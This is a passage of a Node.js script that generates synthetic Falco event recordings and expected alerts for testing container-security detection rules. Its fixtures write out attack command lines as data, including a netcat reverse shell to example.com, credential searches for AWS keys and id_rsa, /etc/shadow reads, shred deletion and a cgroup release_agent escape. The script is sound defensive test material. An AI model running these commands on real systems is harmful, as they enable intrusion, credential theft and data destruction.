// Writes the bundled recordings under captures/: JSONL event streams shaped like what Falco
// sees when falcosecurity/event-generator runs an action in a container (containerd-shim ->
// event-generator -> the action), and the lab scenarios of the project's seed documents.
// Field values come from the seeds' real detections where they have them. Every event
// carries every field the upstream stable rules read (null when it has no value), plus the
// fields of kestrel's default rules. Each recording gets an .expect.json beside it, written
// here by hand: which rules fire, how often, with which priority and key output fields.
// Usage (after npm run build): node scripts/make-captures.mjs
import { mkdirSync, writeFileSync } from 'node:fs';
import { loadRulesFiles } from '../dist/src/index.js';

const root = new URL('../captures/', import.meta.url);
const STABLE = new URL('../../shared/falcosecurity-rules/falco_rules.yaml', import.meta.url).pathname;
const DEFAULT = new URL('../rules/', import.meta.url).pathname;

// ---- the fields every event carries ------------------------------------------------------------
const fieldSet = new Set(['evt.num', 'evt.rawtime', 'evt.type', 'evt.dir', 'evt.hostname']);
for (const path of [STABLE, DEFAULT]) {
  const loaded = loadRulesFiles([path]);
  if (!loaded.output) throw new Error(`rules at ${path} do not load`);
  for (const rule of loaded.output.rules) for (const f of [...rule.conditionFields, ...rule.outputFields]) fieldSet.add(f);
}
// Filter-only fd fields are derived from the client/server ones; ancestry is given as arrays.
for (const f of ['fd.ip', 'fd.net', 'fd.snet', 'fd.cnet', 'fd.port', 'fd.proto', 'proc.aname']) fieldSet.delete(f);
for (const f of [...fieldSet]) if (/^proc\.a(name|exe|exepath|cmdline|pid)\[/.test(f)) fieldSet.delete(f);
fieldSet.add('proc.aname');
fieldSet.add('proc.aexepath');
const FIELDS = [...fieldSet].sort();

// ---- context: host, container, processes --------------------------------------------------------
const HOST = { 'evt.hostname': 'lab-node-1' };
const EVENTGEN_CONTAINER = {
  'container.id': 'abc6831a04ae',
  'container.name': 'eventgen',
  'container.image.repository': 'falcosecurity/event-generator',
  'container.image.tag': 'latest',
  'container.privileged': false,
  'container.start_ts': 1763120552324820709n,
};
const NO_CONTAINER = { 'container.id': 'host', 'container.name': 'host', 'container.privileged': false };
const ROOT = { 'user.name': 'root', 'user.uid': 0, 'user.loginuid': -1, 'user.loginname': null, 'group.gid': 0, 'group.name': 'root' };

/** A process: its own fields plus its ancestry (parent first). */
function proc(name, { exepath, cmdline, pid, parent, cwd = '/', tty = 0, container = EVENTGEN_CONTAINER, user = ROOT, extra = {} }) {
  const args = cmdline.split(' ').slice(1).join(' ');
  const ancestors = parent ? [parent, ...parent.ancestors] : [];
  return {
    name,
    ancestors,
    fields: {
      ...container,
      ...user,
      'proc.name': name,
      'proc.exe': cmdline.split(' ')[0],
      'proc.exepath': exepath,
      'proc.cmdline': cmdline,
      'proc.args': args,
      'proc.pid': pid,
      'proc.vpid': pid,
      'proc.ppid': parent?.fields['proc.pid'] ?? null,
      'proc.pname': parent?.name ?? null,
      'proc.pexe': parent?.fields['proc.exe'] ?? null,
      'proc.pexepath': parent?.fields['proc.exepath'] ?? null,
      'proc.pcmdline': parent?.fields['proc.cmdline'] ?? null,
      'proc.aname': ancestors.map((a) => a.name),
      'proc.aexepath': ancestors.map((a) => a.fields['proc.exepath']),
      'proc.cwd': cwd,
      'proc.tty': tty,
      'proc.sname': ancestors.at(-1)?.name ?? name,
      'proc.is_exe_writable': false,
      'proc.is_exe_upper_layer': false,
      'proc.is_exe_from_memfd': false,
      'proc.is_vpgid_leader': false,
      'thread.tid': pid,
      'thread.cap_effective':
        'CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_FSETID CAP_KILL CAP_SETGID CAP_SETUID CAP_SETPCAP CAP_NET_BIND_SERVICE CAP_NET_RAW CAP_SYS_CHROOT CAP_MKNOD CAP_AUDIT_WRITE CAP_SETFCAP',
      'thread.cap_permitted':
        'CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_FSETID CAP_KILL CAP_SETGID CAP_SETUID CAP_SETPCAP CAP_NET_BIND_SERVICE CAP_NET_RAW CAP_SYS_CHROOT CAP_MKNOD CAP_AUDIT_WRITE CAP_SETFCAP',
      ...extra,
    },
  };
}

// As in the seed's detections: containerd-shim (moby) -> event-generator -> the action.
const shim = proc('containerd-shim', {
  exepath: '/usr/bin/containerd-shim-runc-v2',
  cmdline: 'containerd-shim -namespace moby -id abc6831a04ae35c33de7587e0c2eb78fcea695685eec4c15a152b998f756774b -address /run/containerd/containerd.sock',
  pid: 2811,
  container: NO_CONTAINER,
});

function eventGenerator() {
  return proc('event-generator', { exepath: '/bin/event-generator', cmdline: 'event-generator run syscall', pid: 4301, parent: shim });
}

/** A child of event-generator; busybox applets by default, lower-layer executables as in the seed. */
function child(parent, name, cmdline, pid, extra = {}, exepath = '/bin/busybox') {
  return proc(name, { exepath, cmdline, pid, parent, extra: { 'proc.is_exe_writable': true, ...extra } });
}

// ---- streams ------------------------------------------------------------------------------------
class Stream {
  events = [];
  time = 1763120567000000000n;
  /** One event of process `p` with event-specific fields. */
  add(p, type, specific = {}) {
    this.time += 35217n;
    this.events.push({ ...HOST, ...p.fields, 'evt.type': type, 'evt.dir': '<', 'evt.rawtime': this.time, ...specific });
    return this;
  }
  /** A process starting: the execve, then its dynamic loader and libraries, then some noise. */
  spawn(p) {
    this.add(p, 'execve', { 'evt.res': 'SUCCESS', 'evt.rawres': 0, 'evt.arg.flags': 'EXE_WRITABLE', 'proc.is_exe_writable': p.fields['proc.is_exe_writable'] });
    this.add(p, 'brk', { 'evt.res': 'SUCCESS' });
    this.open(p, '/etc/ld.so.cache', 'r', 3);
    this.add(p, 'fstat', { 'fd.num': 3, 'fd.name': '/etc/ld.so.cache', 'fd.typechar': 'f', 'evt.res': 'SUCCESS' });
    this.add(p, 'mmap', { 'evt.res': 'SUCCESS' });
    this.add(p, 'close', { 'fd.num': 3, 'fd.name': '/etc/ld.so.cache', 'fd.typechar': 'f', 'evt.res': 'SUCCESS', 'evt.rawres': 0 });
    this.open(p, '/lib/x86_64-linux-gnu/libc.so.6', 'r', 3);
    this.add(p, 'read', { 'fd.num': 3, 'fd.name': '/lib/x86_64-linux-gnu/libc.so.6', 'fd.typechar': 'f', 'evt.res': 'SUCCESS', 'evt.rawres': 832 });
    this.add(p, 'mmap', { 'evt.res': 'SUCCESS' });
    this.add(p, 'mprotect', { 'evt.res': 'SUCCESS' });
    return this.add(p, 'close', { 'fd.num': 3, 'fd.typechar': 'f', 'fd.name': '/lib/x86_64-linux-gnu/libc.so.6', 'evt.res': 'SUCCESS', 'evt.rawres': 0 });
  }
  /** An openat of `path` for read (r), write (w) or both, with the flags libsinsp prints. */
  open(p, path, mode, fd, extraFlags = '') {
    const flags = `${{ r: 'O_RDONLY', w: 'O_WRONLY', rw: 'O_RDWR' }[mode] + (extraFlags ? `|${extraFlags}` : '')}|O_CLOEXEC`;
    const dir = path.slice(0, path.lastIndexOf('/')) || '/';
    return this.add(p, 'openat', {
      'fd.num': fd,
      'fd.name': path,
      'fd.nameraw': path,
      'fd.directory': dir,
      'fd.filename': path.slice(path.lastIndexOf('/') + 1),
      'fd.typechar': 'f',
      'fd.type': 'file',
      'evt.arg.flags': flags,
      'evt.arg.name': path,
      'evt.is_open_read': mode !== 'w',
      'evt.is_open_write': mode !== 'r',
      'evt.is_open_exec': false,
      'evt.res': 'SUCCESS',
      'evt.rawres': fd,
    });
  }
  /** JSONL with every field present (null when the event has no value). */
  jsonl() {
    return `${this.events
      .map((e, i) => {
        const full = {};
        for (const f of FIELDS) full[f] = e[f] ?? null;
        for (const [k, v] of Object.entries(e)) if (!(k in full)) full[k] = v;
        full['evt.num'] = i + 1;
        return JSON.stringify(full, (_k, v) => (typeof v === 'bigint' ? `~big~${v}` : v)).replace(/"~big~(-?\d+)"/g, '$1');
      })
      .join('\n')}\n`;
  }
}

/** A recording with the alerts expected from the stable rules and from kestrel's default rules. */
function record(group, name, description, stream, expect) {
  if (expect.stable) {
    // Falco appends the container plugin's suggested fields: the seed's detections show them.
    const container = {
      'container.id': 'abc6831a04ae',
      'container.name': 'eventgen',
      'container.image.repository': 'falcosecurity/event-generator',
      'container.image.tag': 'latest',
    };
    for (const alert of expect.stable) alert.fields = { ...alert.fields, ...container };
  }
  const dir = new URL(`${group}/`, root);
  mkdirSync(dir, { recursive: true });
  writeFileSync(new URL(`${name}.jsonl`, dir), stream.jsonl());
  writeFileSync(new URL(`${name}.expect.json`, dir), `${JSON.stringify({ description, ...expect }, null, 2)}\n`);
}

// ---- event-generator actions (seed 000's detections) ---------------------------------------------
const EG = 'event-generator';
function action(name, description, build, stable, defaults) {
  const eg = eventGenerator();
  const stream = new Stream().spawn(eg);
  build(stream, eg);
  record(EG, name, description, stream, { stable, default: defaults });
}
const tmp = (a, n) => `/tmp/falco-event-generator-syscall-${a}-${n}`;

action(
  'detect-release-agent-file-container-escapes',
  'syscall.DetectReleaseAgentFileContainerEscapes: a shell writes a cgroup release_agent file',
  (s, eg) => {
    const sh = child(eg, 'sh', "sh -c echo 'hello world' > release_agent", 4317, {
      'thread.cap_effective': 'CAP_CHOWN CAP_DAC_OVERRIDE CAP_SYS_ADMIN CAP_SETUID CAP_SETGID',
    });
    s.spawn(sh).open(sh, '/release_agent', 'w', 3, 'O_CREAT|O_TRUNC');
    s.add(sh, 'write', { 'fd.num': 3, 'fd.name': '/release_agent', 'fd.typechar': 'f', 'evt.res': 'SUCCESS', 'evt.rawres': 12 });
  },
  [
    {
      rule: 'Detect release_agent File Container Escapes',
      priority: 'Critical',
      count: 1,
      fields: {
        'fd.name': '/release_agent',
        'evt.type': 'openat',
        'user.name': 'root',
        'user.uid': 0,
        'user.loginuid': -1,
        'proc.name': 'sh',
        'proc.exepath': '/bin/busybox',
        'proc.pname': EG,
        'proc.cmdline': "sh -c echo 'hello world' > release_agent",
        'proc.tty': 0,
      },
    },
  ],
  [{ rule: 'Container escape through a cgroup release_agent', priority: 'Critical', count: 1, fields: { 'fd.name': '/release_agent' } }],
);

action(
  'drop-and-execute-new-binary-in-container',
  'syscall.DropAndExecuteNewBinaryInContainer: a binary written at run time (upper layer) is executed',
  (s, eg) => {
    const exe = '/bin/falco-event-generator-syscall-DropAndExecuteNewBinaryInContainer-pIekP8';
    const p = child(
      eg,
      'falco-event-gen',
      'falco-event-gen',
      4320,
      {
        'proc.exepath': exe,
        'proc.exe': exe,
        'proc.is_exe_upper_layer': true,
        'proc.exe_ino.ctime': 1763120565795851894n,
        'proc.exe_ino.mtime': 1763120565795851894n,
        'proc.exe_ino.ctime_duration_proc_start': 15867197,
        'proc.sname': EG,
      },
      exe,
    );
    s.add(p, 'execve', { 'evt.res': 'SUCCESS', 'evt.rawres': 0, 'evt.arg.flags': 'EXE_WRITABLE|EXE_UPPER_LAYER' });
  },
  [
    {
      rule: 'Drop and execute new binary in container',
      priority: 'Critical',
      count: 1,
      fields: {
        'proc.exe': '/bin/falco-event-generator-syscall-DropAndExecuteNewBinaryInContainer-pIekP8',
        'proc.sname': EG,
        'proc.aname[2]': 'containerd-shim',
        // biome-ignore lint/correctness/noPrecisionLoss: the seed's exact value; the .expect.json keeps it as JSON.parse reads it (rounded), as tests compare it
        'proc.exe_ino.ctime': 1763120565795851894,
        // biome-ignore lint/correctness/noPrecisionLoss: the seed's exact value; the .expect.json keeps it as JSON.parse reads it (rounded), as tests compare it
        'proc.exe_ino.mtime': 1763120565795851894,
        'proc.exe_ino.ctime_duration_proc_start': 15867197,
        'proc.cwd': '/',
        // biome-ignore lint/correctness/noPrecisionLoss: the seed's exact value; the .expect.json keeps it as JSON.parse reads it (rounded), as tests compare it
        'container.start_ts': 1763120552324820709,
        'evt.type': 'execve',
        'proc.name': 'falco-event-gen',
        'proc.pname': EG,
        'proc.cmdline': 'falco-event-gen',
        'evt.arg.flags': 'EXE_WRITABLE|EXE_UPPER_LAYER',
      },
    },
  ],
  [
    {
      rule: 'Program from the container writable layer executed',
      priority: 'Critical',
      count: 1,
      fields: { 'proc.exepath': '/bin/falco-event-generator-syscall-DropAndExecuteNewBinaryInContainer-pIekP8' },
    },
  ],
);

action(
  'fileless-execution-via-memfd-create',
  'syscall.FilelessExecutionViaMemfdCreate: a program executed from a memfd',
  (s, eg) => {
    const p = child(eg, '3', '3 run helper.DoNothing', 4321, { 'proc.is_exe_from_memfd': true, 'proc.sname': EG }, 'memfd:program');
    s.add(p, 'execve', { 'evt.res': 'SUCCESS', 'evt.rawres': 0, 'evt.arg.flags': 'EXE_WRITABLE|EXE_FROM_MEMFD' });
  },
  [
    {
      rule: 'Fileless execution via memfd_create',
      priority: 'Critical',
      count: 1,
      fields: {
        // biome-ignore lint/correctness/noPrecisionLoss: the seed's exact value; the .expect.json keeps it as JSON.parse reads it (rounded), as tests compare it
        'container.start_ts': 1763120552324820709,
        'proc.cwd': '/',
        'evt.res': 'SUCCESS',
        'proc.sname': EG,
        'proc.aname[2]': 'containerd-shim',
        'evt.type': 'execve',
        'proc.name': '3',
        'proc.exepath': 'memfd:program',
        'proc.pname': EG,
        'proc.cmdline': '3 run helper.DoNothing',
      },
    },
  ],
  [{ rule: 'Program executed from memory', priority: 'Critical', count: 1, fields: { 'proc.exepath': 'memfd:program' } }],
);

action(
  'netcat-remote-code-execution-in-container',
  'syscall.NetcatRemoteCodeExecutionInContainer: nc started with -e in a container',
  (s, eg) => {
    s.spawn(child(eg, 'nc', 'nc -e /bin/sh example.com 22', 4322, {}, '/usr/bin/nc'));
  },
  [
    {
      rule: 'Netcat Remote Code Execution in Container',
      priority: 'Warning',
      count: 1,
      fields: { 'evt.type': 'execve', 'proc.name': 'nc', 'proc.exepath': '/usr/bin/nc', 'proc.pname': EG },
    },
  ],
  [{ rule: 'Reverse shell with netcat', priority: 'Warning', count: 1, fields: { 'proc.cmdline': 'nc -e /bin/sh example.com 22' } }],
);

action(
  'execution-from-dev-shm',
  'syscall.ExecutionFromDevShm: a shell runs a script in /dev/shm',
  (s, eg) => {
    s.spawn(child(eg, 'sh', 'sh -c /dev/shm/falco-event-generator-syscall ExecutionFromDevShm-WlkJ1d.sh', 4323, { 'proc.is_exe_lower_layer': true }));
  },
  [
    {
      rule: 'Execution from /dev/shm',
      priority: 'Warning',
      count: 1,
      fields: {
        'proc.cwd': '/',
        'proc.pcmdline': 'event-generator run syscall',
        'group.gid': 0,
        'group.name': 'root',
        'evt.type': 'execve',
        'proc.name': 'sh',
        'proc.exepath': '/bin/busybox',
        'proc.pname': EG,
        'proc.cmdline': 'sh -c /dev/shm/falco-event-generator-syscall ExecutionFromDevShm-WlkJ1d.sh',
      },
    },
  ],
  [
    {
      rule: 'Program run from /dev/shm',
      priority: 'Warning',
      count: 1,
      fields: { 'proc.cmdline': 'sh -c /dev/shm/falco-event-generator-syscall ExecutionFromDevShm-WlkJ1d.sh' },
    },
  ],
);

action(
  'remove-bulk-data-from-disk',
  'syscall.RemoveBulkDataFromDisk: shred removes a file',
  (s, eg) => {
    s.spawn(child(eg, 'shred', `shred -u ${tmp('RemoveBulkDataFromDisk', '3702235722')}`, 4324));
  },
  [
    {
      rule: 'Remove Bulk Data from Disk',
      priority: 'Warning',
      count: 1,
      fields: {
        'evt.type': 'execve',
        'user.name': 'root',
        'proc.name': 'shred',
        'proc.exepath': '/bin/busybox',
        'proc.pname': EG,
        'proc.cmdline': `shred -u ${tmp('RemoveBulkDataFromDisk', '3702235722')}`,
        'proc.tty': 0,
      },
    },
  ],
  [
    {
      rule: 'Data destroyed with shred or mkfs',
      priority: 'Warning',
      count: 1,
      fields: { 'proc.cmdline': `shred -u ${tmp('RemoveBulkDataFromDisk', '3702235722')}` },
    },
  ],
);

action(
  'debugfs-launched-in-privileged-container',
  'syscall.DebugfsLaunchedInPrivilegedContainer: debugfs in a privileged container',
  (s, eg) => {
    const priv = { ...EVENTGEN_CONTAINER, 'container.privileged': true };
    s.spawn(proc('debugfs', { exepath: '/usr/sbin/debugfs', cmdline: 'debugfs -V', pid: 4325, parent: eg, container: priv }));
  },
  [
    {
      rule: 'Debugfs Launched in Privileged Container',
      priority: 'Warning',
      count: 1,
      fields: { 'evt.type': 'execve', 'proc.name': 'debugfs', 'proc.exepath': '/usr/sbin/debugfs', 'proc.pname': EG, 'proc.cmdline': 'debugfs -V' },
    },
  ],
  [{ rule: 'debugfs in a privileged container', priority: 'Warning', count: 1, fields: { 'proc.cmdline': 'debugfs -V' } }],
);

action(
  'directory-traversal-monitored-file-read',
  'syscall.DirectoryTraversalMonitoredFileRead: /etc/shadow opened through ../ components',
  (s, eg) => {
    s.open(eg, '/etc/shadow', 'r', 5);
    s.events.at(-1)['fd.nameraw'] = '/etc/../etc/../etc/shadow';
  },
  [
    {
      rule: 'Directory traversal monitored file read',
      priority: 'Warning',
      count: 1,
      fields: {
        'fd.name': '/etc/shadow',
        'fd.nameraw': '/etc/../etc/../etc/shadow',
        'evt.type': 'openat',
        'proc.name': EG,
        'proc.exepath': '/bin/event-generator',
        'proc.pname': 'containerd-shim',
        'proc.cmdline': 'event-generator run syscall',
      },
    },
  ],
  [{ rule: 'Sensitive file read', priority: 'Warning', count: 1, fields: { 'fd.name': '/etc/shadow' } }],
);

action(
  'read-sensitive-file-untrusted',
  'syscall.ReadSensitiveFileUntrusted: /etc/shadow opened for reading',
  (s, eg) => {
    s.open(eg, '/etc/shadow', 'r', 5);
  },
  [
    {
      rule: 'Read sensitive file untrusted',
      priority: 'Warning',
      count: 1,
      fields: {
        'fd.name': '/etc/shadow',
        'evt.type': 'openat',
        'proc.name': EG,
        'proc.exepath': '/bin/event-generator',
        'proc.pname': 'containerd-shim',
        'proc.cmdline': 'event-generator run syscall',
        'proc.tty': 0,
      },
    },
  ],
  [{ rule: 'Sensitive file read', priority: 'Warning', count: 1, fields: { 'fd.name': '/etc/shadow' } }],
);

action(
  'find-aws-credentials',
  'syscall.FindAwsCredentials: find looks for .aws/credentials',
  (s, eg) => {
    s.spawn(child(eg, 'find', 'find /tmp -maxdepth 1 -iname .aws/credentials', 4326));
  },
  [
    {
      rule: 'Find AWS Credentials',
      priority: 'Warning',
      count: 1,
      fields: {
        'proc.pcmdline': 'event-generator run syscall',
        'proc.cwd': '/',
        'group.gid': 0,
        'group.name': 'root',
        'evt.type': 'execve',
        'proc.name': 'find',
        'proc.exepath': '/bin/busybox',
        'proc.cmdline': 'find /tmp -maxdepth 1 -iname .aws/credentials',
      },
    },
  ],
  [{ rule: 'Credentials searched for', priority: 'Warning', count: 1, fields: { 'proc.cmdline': 'find /tmp -maxdepth 1 -iname .aws/credentials' } }],
);

action(
  'search-private-keys-or-passwords',
  'syscall.SearchPrivateKeysOrPasswords: find looks for id_rsa',
  (s, eg) => {
    s.spawn(child(eg, 'find', 'find /tmp -maxdepth 1 -iname id_rsa', 4327));
  },
  [
    {
      rule: 'Search Private Keys or Passwords',
      priority: 'Warning',
      count: 1,
      fields: {
        'evt.type': 'execve',
        'proc.name': 'find',
        'proc.exepath': '/bin/busybox',
        'proc.pname': EG,
        'proc.cmdline': 'find /tmp -maxdepth 1 -iname id_rsa',
      },
    },
  ],
  [{ rule: 'Credentials searched for', priority: 'Warning', count: 1, fields: { 'proc.cmdline': 'find /tmp -maxdepth 1 -iname id_rsa' } }],
);

action(
  'clear-log-activities',
  'syscall.ClearLogActivities: a syslog file opened with O_TRUNC',
  (s, eg) => {
    const file = `${tmp('ClearLogActivities', '1695056983')}/syslog`;
    s.open(eg, file, 'w', 3, 'O_TRUNC');
    s.add(eg, 'close', { 'fd.num': 3, 'fd.name': file, 'fd.typechar': 'f', 'evt.res': 'SUCCESS', 'evt.rawres': 0 });
  },
  [
    {
      rule: 'Clear Log Activities',
      priority: 'Warning',
      count: 1,
      fields: {
        'fd.name': `${tmp('ClearLogActivities', '1695056983')}/syslog`,
        'evt.type': 'openat',
        'proc.name': EG,
        'proc.exepath': '/bin/event-generator',
        'proc.pname': 'containerd-shim',
        'proc.cmdline': 'event-generator run syscall',
      },
    },
  ],
  [{ rule: 'Log file truncated', priority: 'Warning', count: 1, fields: { 'fd.name': `${tmp('ClearLogActivities', '1695056983')}/syslog` } }],
);

action(
  'ptrace-attach-container',
  'syscall.PtraceAttachContainer: PTRACE_ATTACH to another process',
  (s, eg) => {
    s.add(eg, 'ptrace', { 'evt.arg.request': 'PTRACE_ATTACH', 'evt.res': 'SUCCESS', 'evt.rawres': 0 });
  },
  [
    {
      rule: 'PTRACE attached to process',
      priority: 'Warning',
      count: 1,
      fields: {
        'proc.pcmdline': shim.fields['proc.cmdline'],
        'evt.type': 'ptrace',
        'proc.name': EG,
        'proc.exepath': '/bin/event-generator',
        'proc.pname': 'containerd-shim',
      },
    },
  ],
  [{ rule: 'Process attached with ptrace', priority: 'Warning', count: 1, fields: { 'evt.arg.request': 'PTRACE_ATTACH' } }],
);

action(
  'ptrace-anti-debug-attempt',
  'syscall.PtraceAntiDebugAttempt: PTRACE_TRACEME in a child of event-generator',
  (s, eg) => {
    const p = proc(EG, { exepath: '/bin/event-generator', cmdline: 'event-generator run syscall', pid: 4330, parent: eg });
    s.add(p, 'ptrace', { 'evt.arg.request': 'PTRACE_TRACEME', 'evt.res': 'SUCCESS', 'evt.rawres': 0 });
  },
  [
    {
      rule: 'PTRACE anti-debug attempt',
      priority: 'Notice',
      count: 1,
      fields: {
        'proc.pcmdline': 'event-generator run syscall',
        'evt.type': 'ptrace',
        'proc.name': EG,
        'proc.exepath': '/bin/event-generator',
        'proc.pname': EG,
      },
    },
  ],
  [{ rule: 'Process asked to be traced', priority: 'Notice', count: 1, fields: { 'proc.name': EG } }],
);

action(
  'create-symlink-over-sensitive-files',
  'syscall.CreateSymlinkOverSensitiveFiles: ln -s /etc',
  (s, eg) => {
    const link = `${tmp('CreateSymlinkOverSensitiveFiles', '3008289064')}/etc_link`;
    const ln = child(eg, 'ln', `ln -s /etc ${link}`, 4331);
    s.spawn(ln).add(ln, 'symlink', { 'evt.arg.target': '/etc', 'evt.arg.linkpath': link, 'evt.res': 'SUCCESS', 'evt.rawres': 0 });
  },
  [
    {
      rule: 'Create Symlink Over Sensitive Files',
      priority: 'Warning',
      count: 1,
      fields: {
        'evt.arg.target': '/etc',
        'evt.arg.linkpath': `${tmp('CreateSymlinkOverSensitiveFiles', '3008289064')}/etc_link`,
        'evt.type': 'symlink',
        'proc.name': 'ln',
        'proc.exepath': '/bin/busybox',
        'proc.pname': EG,
      },
    },
  ],
  [{ rule: 'Link to a sensitive file', priority: 'Warning', count: 1, fields: { 'proc.name': 'ln' } }],
);

action(
  'create-hardlink-over-sensitive-files',
  'syscall.CreateHardlinkOverSensitiveFiles: ln /etc/shadow',
  (s, eg) => {
    const link = `${tmp('CreateHardlinkOverSensitiveFiles', '2692954326')}/shadow_link`;
    const ln = child(eg, 'ln', `ln -v /etc/shadow ${link}`, 4332);
    s.spawn(ln).add(ln, 'link', { 'evt.arg.oldpath': '/etc/shadow', 'evt.arg.newpath': link, 'evt.res': 'SUCCESS', 'evt.rawres': 0 });
  },
  [
    {
      rule: 'Create Hardlink Over Sensitive Files',
      priority: 'Warning',
      count: 1,
      fields: {
        'evt.arg.oldpath': '/etc/shadow',
        'evt.arg.newpath': `${tmp('CreateHardlinkOverSensitiveFiles', '2692954326')}/shadow_link`,
        'evt.type': 'link',
        'proc.name': 'ln',
        'proc.exepath': '/bin/busybox',
        'proc.pname': EG,
      },
    },
  ],
  [{ rule: 'Link to a sensitive file', priority: 'Warning', count: 1, fields: { 'proc.name': 'ln' } }],
);

action(
  'packet-socket-created-in-container',
  'syscall.PacketSocketCreatedInContainer: an AF_PACKET socket',
  (s, eg) => {
    s.add(eg, 'socket', {
      'evt.arg.domain': 'AF_PACKET',
      'evt.args': 'fd=3 domain=17(AF_PACKET) type=3 proto=3',
      'fd.num': 3,
      'evt.res': 'SUCCESS',
      'evt.rawres': 3,
    });
  },
  [
    {
      rule: 'Packet socket created in container',
      priority: 'Notice',
      count: 1,
      fields: {
        'evt.args': 'fd=3 domain=17(AF_PACKET) type=3 proto=3',
        'evt.type': 'socket',
        'proc.name': EG,
        'proc.exepath': '/bin/event-generator',
        'proc.pname': 'containerd-shim',
      },
    },
  ],
  [{ rule: 'Packet socket in a container', priority: 'Notice', count: 1, fields: { 'proc.name': EG } }],
);

action(
  'run-shell-untrusted',
  'syscall.RunShellUntrusted: httpd (a copy of event-generator) spawns a shell',
  (s, eg) => {
    const httpdExe = '/tmp/falco-event-generator-syscall-spawned-3461569440/httpd';
    const httpd = proc('httpd', { exepath: '/bin/event-generator', cmdline: `${httpdExe} --loglevel info run ^helper.RunShell$`, pid: 4333, parent: eg });
    httpd.fields['proc.exe'] = httpdExe;
    const sh = proc('sh', { exepath: '/bin/busybox', cmdline: 'sh -c ls > /dev/null', pid: 4334, parent: httpd, extra: { 'proc.is_exe_writable': true } });
    s.spawn(sh);
  },
  [
    {
      rule: 'Run shell untrusted',
      priority: 'Notice',
      count: 1,
      fields: {
        'proc.pexe': '/tmp/falco-event-generator-syscall-spawned-3461569440/httpd',
        'proc.pexepath': '/bin/event-generator',
        'proc.aname[2]': EG,
        'proc.aname[3]': 'containerd-shim',
        'evt.type': 'execve',
        'proc.name': 'sh',
        'proc.exepath': '/bin/busybox',
        'proc.pname': 'httpd',
        'proc.cmdline': 'sh -c ls > /dev/null',
      },
    },
  ],
  [{ rule: 'Shell spawned by a server process', priority: 'Notice', count: 1, fields: { 'proc.pname': 'httpd' } }],
);

action(
  'system-user-interactive',
  'syscall.SystemUserInteractive: a system account (daemon) runs a program under login',
  (s, eg) => {
    const login = proc('login', {
      exepath: '/bin/login',
      cmdline: '/bin/login',
      pid: 4335,
      parent: eg,
      user: { ...ROOT, 'user.name': 'daemon', 'user.uid': 1 },
    });
    s.spawn(login);
  },
  [{ rule: 'System user interactive', priority: 'Informational', count: 1, fields: { 'user.name': 'daemon', 'proc.name': 'login' } }],
  [{ rule: 'System account used interactively', priority: 'Informational', count: 1, fields: { 'user.name': 'daemon' } }],
);

action(
  'disallowed-ssh-connection-non-standard-port',
  'syscall.DisallowedSSHConnectionNonStandardPort: ssh connects to port 443',
  (s, eg) => {
    const ssh = child(eg, 'ssh', 'ssh user@example.com -p 443', 4336, {}, '/usr/bin/ssh');
    s.spawn(ssh).add(ssh, 'connect', {
      'fd.num': 3,
      'fd.typechar': '4',
      'fd.type': 'ipv4',
      'fd.l4proto': 'tcp',
      'fd.sockfamily': 'ip',
      'fd.cip': '172.17.0.3',
      'fd.cport': 40100,
      'fd.sip': '203.0.113.10',
      'fd.sport': 443,
      'fd.lip': '172.17.0.3',
      'fd.rip': '203.0.113.10',
      'fd.name': '172.17.0.3:40100->203.0.113.10:443',
      'fd.connected': true,
      'evt.res': 'EINPROGRESS',
      'evt.rawres': -115,
    });
  },
  [
    {
      rule: 'Disallowed SSH Connection Non Standard Port',
      priority: 'Notice',
      count: 1,
      fields: { 'fd.name': '172.17.0.3:40100->203.0.113.10:443', 'proc.name': 'ssh' },
    },
  ],
  [{ rule: 'SSH to a non-standard port', priority: 'Notice', count: 1, fields: { 'fd.sport': 443 } }],
);

// ---- labs ---------------------------------------------------------------------------------------
{
  // Seed 000's custom rule: a write below /usr/local/bin inside container lab9-helper (alpine:3.19),
  // and the writes that must not fire: on the host, and elsewhere in the container.
  const lab = {
    'container.id': 'a12356e689e8',
    'container.name': 'lab9-helper',
    'container.image.repository': 'alpine',
    'container.image.tag': '3.19',
    'container.privileged': false,
    'container.start_ts': 1763120700000000000n,
  };
  const containerShim = proc('containerd-shim', {
    exepath: '/usr/bin/containerd-shim-runc-v2',
    cmdline: '/usr/bin/containerd-shim-runc-v2 -namespace moby -id a12356e689e8',
    pid: 3100,
    container: NO_CONTAINER,
  });
  const ash = proc('sh', { exepath: '/bin/busybox', cmdline: 'sh', pid: 3120, parent: containerShim, container: lab, tty: 34816 });
  const touch = proc('touch', { exepath: '/bin/busybox', cmdline: 'touch /usr/local/bin/custom-rule.txt', pid: 3133, parent: ash, container: lab, tty: 34816 });
  const other = proc('touch', { exepath: '/bin/busybox', cmdline: 'touch /tmp/notes.txt', pid: 3134, parent: ash, container: lab, tty: 34816 });
  const hostShell = proc('bash', { exepath: '/usr/bin/bash', cmdline: '-bash', pid: 2001, container: NO_CONTAINER, tty: 34817 });
  const hostTouch = proc('touch', {
    exepath: '/usr/bin/touch',
    cmdline: 'touch /usr/local/bin/host-tool',
    pid: 2002,
    parent: hostShell,
    container: NO_CONTAINER,
    tty: 34817,
  });
  const s = new Stream().spawn(touch);
  s.open(touch, '/usr/local/bin/custom-rule.txt', 'w', 3, 'O_LARGEFILE|O_TRUNC|O_CREAT');
  // The flags as the seed's detection shows them (libsinsp adds O_F_CREATED and FD_UPPER_LAYER).
  s.events.at(-1)['evt.arg.flags'] = 'O_LARGEFILE|O_TRUNC|O_CREAT|O_WRONLY|O_F_CREATED|FD_UPPER_LAYER';
  s.spawn(other).open(other, '/tmp/notes.txt', 'w', 3, 'O_CREAT');
  s.spawn(hostTouch).open(hostTouch, '/usr/local/bin/host-tool', 'w', 3, 'O_CREAT');
  record(
    'labs',
    'usr-local-bin-write',
    'Seed 000 custom rule: one write below /usr/local/bin in container lab9-helper fires; a container write in /tmp and a host write below /usr/local/bin do not',
    s,
    {
      default: [
        {
          rule: 'Write below /usr/local/bin in container',
          priority: 'Warning',
          count: 1,
          fields: {
            'fd.name': '/usr/local/bin/custom-rule.txt',
            'evt.arg.flags': 'O_LARGEFILE|O_TRUNC|O_CREAT|O_WRONLY|O_F_CREATED|FD_UPPER_LAYER',
            'container.id': 'a12356e689e8',
            'container.name': 'lab9-helper',
            'container.image.repository': 'alpine',
            'container.image.tag': '3.19',
            'user.name': 'root',
          },
        },
      ],
    },
  );
}
{
  // Seed 003 docker lab, in an nginx container: an interactive shell, an unexpected process,
  // a connection on an unexpected port, a write outside the user-data directories, a server
